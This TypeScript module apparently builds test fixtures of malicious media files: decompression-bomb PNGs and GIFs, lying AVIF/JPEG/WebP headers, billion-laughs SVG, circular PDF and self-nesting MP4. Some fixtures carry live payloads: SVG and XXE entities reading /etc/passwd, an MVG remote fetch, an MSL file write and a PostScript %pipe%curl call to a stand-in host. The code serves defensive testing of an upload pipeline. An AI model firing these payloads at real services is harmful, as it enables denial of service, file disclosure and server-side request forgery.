import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { videoBombs } from './video-bombs.ts';

/** A file that is small on the wire and, for whoever decodes it, huge, endless or an order to fetch something. */
export interface ImageBomb {
  readonly name: string;
  readonly type: string;
  readonly body: Buffer;
}

/** @param stranger `HOST:PORT` that nobody may ever connect to */
export async function imageBombs(stranger: string): Promise<readonly ImageBomb[]> {
  return [
    { name: 'a PNG of 900 megapixels', type: 'image/png', body: png(30_000, 30_000) },
    {
      name: 'a PNG that claims to be as large as PNG can be',
      type: 'image/png',
      body: png(2 ** 31 - 1, 2 ** 31 - 1, 1),
    },
    { name: 'a PNG of one line, two thousand million wide', type: 'image/png', body: png(2e9, 1, 1) },
    { name: 'a PNG as large as the store takes', type: 'image/png', body: png(10_000, 10_000) },
    { name: 'a GIF of ten thousand frames', type: 'image/gif', body: gif(5_000, 5_000, 10_000) },
    { name: 'a GIF of ten thousand small frames', type: 'image/gif', body: gif(100, 100, 10_000) },
    { name: 'a GIF whose screen is as large as GIF can be', type: 'image/gif', body: gif(65_535, 65_535, 2) },
    { name: 'an AVIF that claims 60,000 pixels a side', type: 'image/avif', body: await avif(60_000) },
    { name: 'an AVIF that claims 9,000 pixels a side', type: 'image/avif', body: await avif(9_000) },
    { name: 'a JPEG that claims 65,500 pixels a side', type: 'image/jpeg', body: jpegHead(65_500, 65_500) },
    { name: 'a TIFF with an endless chain of pages', type: 'image/tiff', body: endlessTiff() },
    { name: 'a WebP that claims 16,384 pixels a side', type: 'image/webp', body: webpHead(16_384, 16_384) },
    { name: 'an SVG of a thousand million entities', type: 'image/svg+xml', body: entities() },
    {
      name: 'an SVG of a thousand million pixels a side',
      type: 'image/svg+xml',
      body: svg('1e9', '<rect width="9" height="9"/>'),
    },
    {
      name: 'an SVG nested a hundred thousand deep',
      type: 'image/svg+xml',
      body: svg('9', `${'<g>'.repeat(1e5)}${'</g>'.repeat(1e5)}`),
    },
    { name: 'an SVG that uses itself ten times, ten times over', type: 'image/svg+xml', body: svg('9', usesOfUses()) },
    { name: 'an SVG that blurs the same two thousand times', type: 'image/svg+xml', body: blurredDrawing },
    {
      name: 'an SVG that draws a file of the machine and a page of the network',
      type: 'image/svg+xml',
      body: svg(
        '9',
        `<image href="file:///etc/passwd" width="9" height="9"/><image href="http://${stranger}/a.png" width="9" height="9"/>`,
      ),
    },
    {
      name: 'an SVG with entities of the machine and the network',
      type: 'image/svg+xml',
      body: Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://${stranger}/">]>` +
          '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&a;&b;</text></svg>',
      ),
    },
    {
      name: 'an MVG that fetches, as a JPEG',
      type: 'image/jpeg',
      body: Buffer.from(
        `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'http://${stranger}/a'\npop graphic-context\n`,
      ),
    },
    {
      name: 'an MSL that writes, as a PNG',
      type: 'image/png',
      body: Buffer.from(
        '<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/out"/></image>',
      ),
    },
    {
      name: 'a PostScript program, as a JPEG',
      type: 'image/jpeg',
      body: Buffer.from(`%!PS\n{loop} (%pipe%curl http://${stranger}/) (r) file\n`),
    },
    { name: 'a PDF whose pages are their own parents', type: 'application/pdf', body: circularPdf() },
    { name: 'an MP4 whose boxes hold themselves', type: 'video/mp4', body: nestedBoxes() },
    ...videoBombs.map((bomb) => ({ ...bomb, type: 'video/mp4' })),
  ];
}

/** It keeps native code busy for minutes, which heeds no time limit meanwhile. */
export const blurredDrawing = svg(
  '3000',
  `<filter id="f">${'<feGaussianBlur stdDeviation="500"/>'.repeat(2_000)}</filter><rect width="3000" height="3000" filter="url(#f)"/>`,
);

/** The JPEG, with 5,000 Exif entries of 64 kB of numbers each, which all lie in the same 64 kB. */
export function exifBomb(jpeg: Buffer): Buffer {
  const entries = 5_000;
  const block = Buffer.alloc(65_000, 1);
  block.write('II\x2a\0\x08\0\0\0', 'latin1');
  block.writeUInt16LE(entries, 8);
  for (let index = 0; index < entries; index += 1) {
    const at = 10 + index * 12;
    block.writeUInt16LE(0x1000 + index, at);
    block.writeUInt16LE(1, at + 2);
    block.writeUInt32LE(0xffffffff, at + 4);
    block.writeUInt32LE(8, at + 8);
  }
  const segment = Buffer.concat([Buffer.from('\xff\xe1\0\0Exif\0\0', 'latin1'), block]);
  segment.writeUInt16BE(segment.length - 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** Grey, one bit a pixel; with fewer `lines` than it claims where told. */
function png(width: number, height: number, lines = height): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const line = Math.min(1 + Math.ceil(width / 8), 100_000);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(line * lines), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Frames of one pixel each on a screen of the size. */
function gif(width: number, height: number, frames: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const frame = Buffer.from('\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0', 'latin1');
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
}

/** Headers up to the scan, and a scan of a few bytes. */
function jpegHead(width: number, height: number): Buffer {
  const frame = Buffer.from('\xff\xc0\0\x0b\x08\0\0\0\0\x01\x01\x11\0', 'latin1');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const scan = Buffer.from('\xff\xda\0\x08\x01\x01\0\0\x3f\0\x12\x34\x56', 'latin1');
  return Buffer.concat([Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1'), frame, scan]);
}

/** One page that names itself as the next. */
function endlessTiff(): Buffer {
  const tags: readonly (readonly [tag: number, value: number])[] = [
    [256, 20_000],
    [257, 20_000],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, 20_000],
    [279, 400_000_000],
  ];
  const page = Buffer.alloc(2 + tags.length * 12 + 4);
  page.writeUInt16LE(tags.length);
  for (const [index, [tag, value]] of tags.entries()) {
    const at = 2 + index * 12;
    page.writeUInt16LE(tag, at);
    page.writeUInt16LE(4, at + 2);
    page.writeUInt32LE(1, at + 4);
    page.writeUInt32LE(value, at + 8);
  }
  page.writeUInt32LE(8, page.length - 4);
  return Buffer.concat([Buffer.from('II\x2a\0\x08\0\0\0', 'latin1'), page]);
}

/** The extended header's canvas, and a lossless frame of the same size without its data. */
function webpHead(width: number, height: number): Buffer {
  const extended = Buffer.alloc(10);
  extended.writeUIntLE(width - 1, 4, 3);
  extended.writeUIntLE(height - 1, 7, 3);
  const lossless = Buffer.alloc(6);
  lossless[0] = 0x2f;
  lossless.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0, 1);
  const parts = Buffer.concat([riff('VP8X', extended), riff('VP8L', lossless)]);
  const head = Buffer.from('RIFF\0\0\0\0WEBP', 'latin1');
  head.writeUInt32LE(parts.length + 4, 4);
  return Buffer.concat([head, parts]);
}

function riff(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(data.length);
  return Buffer.concat([Buffer.from(type, 'latin1'), length, data]);
}

function svg(size: string, content: string): Buffer {
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}">${content}</svg>`);
}

/** Ten of the one before, nine times over. */
function entities(): Buffer {
  const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "lol">${levels.join('')}]>` +
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e9;</text></svg>',
  );
}

function usesOfUses(): string {
  const levels = Array.from(
    { length: 9 },
    (_, level) => `<g id="g${level + 1}">${`<use href="#g${level}"/>`.repeat(10)}</g>`,
  );
  return `<defs><rect id="g0" width="1" height="1"/>${levels.join('')}</defs><use href="#g9"/>`;
}

/** A picture of 64 pixels a side whose header claims more. */
async function avif(side: number): Promise<Buffer> {
  const picture = await sharp({ create: { width: 64, height: 64, channels: 3, background: 'red' } })
    .avif()
    .toBuffer();
  const size = picture.indexOf('ispe') + 8;
  picture.writeUInt32BE(side, size);
  picture.writeUInt32BE(side, size + 4);
  return picture;
}

function circularPdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 99999999>>endobj\n' +
      'trailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF\n',
  );
}

/** `moov` in `moov`, each of which claims to reach to the end of the file, and one that claims more than there is. */
function nestedBoxes(): Buffer {
  const depth = 20_000;
  const type = Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1');
  const boxes = Array.from({ length: depth }, (_, level) => {
    const box = Buffer.from('\0\0\0\0moov', 'latin1');
    box.writeUInt32BE((depth - level) * 8);
    return box;
  });
  return Buffer.concat([type, ...boxes, Buffer.from('\x7f\xff\xff\xffmdat', 'latin1')]);
}
